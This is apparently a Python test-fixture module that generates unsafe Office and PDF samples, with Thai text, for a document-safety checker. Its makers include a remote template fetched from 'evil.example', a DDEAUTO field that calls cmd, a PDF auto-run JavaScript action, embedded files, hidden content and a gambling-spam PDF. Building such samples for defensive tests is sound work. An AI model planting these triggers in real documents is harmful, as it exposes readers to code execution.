"""Files for the case pages of what could harm a visitor."""

import io
from collections.abc import Callable, Mapping

import docx
import openpyxl

from tests.unit.source.documents.made import pdf_of, saved
from tests.unit.source.office_parts import fields, related


def _docx_with_hidden_text() -> bytes:
    letter = docx.Document()
    letter.add_paragraph("ประกาศ")
    run = letter.add_paragraph().add_run("รายชื่อผู้ไม่ผ่านการประเมิน")
    run.font.hidden = True
    buffer = io.BytesIO()
    letter.save(buffer)
    return buffer.getvalue()


def _xlsx_with_hidden_sheet() -> bytes:
    book = openpyxl.Workbook()
    book.create_sheet("รายชื่อเต็ม").sheet_state = "hidden"
    return saved(book)


UNSAFE_MAKERS: Mapping[str, Callable[[], bytes]] = {
    "docx_with_remote_template": lambda: related("attachedTemplate", "https://evil.example/t.dotm"),
    "docx_with_command": lambda: fields(" DDEAUTO c:\\\\windows\\\\cmd "),
    "pdf_with_script": lambda: pdf_of(
        "ประกาศ", catalogue=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
    ),
    "docx_with_remote_picture": lambda: related("image", "https://elsewhere.example/a.png"),
    "docx_with_hidden_text": _docx_with_hidden_text,
    "xlsx_with_hidden_sheet": _xlsx_with_hidden_sheet,
    "pdf_with_file_inside": lambda: pdf_of(
        "ประกาศ",
        catalogue=b"/Names<</EmbeddedFiles<</Names[(a)<</EF<</F<</Type/EmbeddedFile>>>>>>]>>>>",
    ),
    "pdf_with_advertisement": lambda: pdf_of("ประกาศ", "สล็อตเว็บตรง ฝากถอนออโต้ เครดิตฟรี"),
}
"""The name that a page uses, to the function that makes the bytes."""
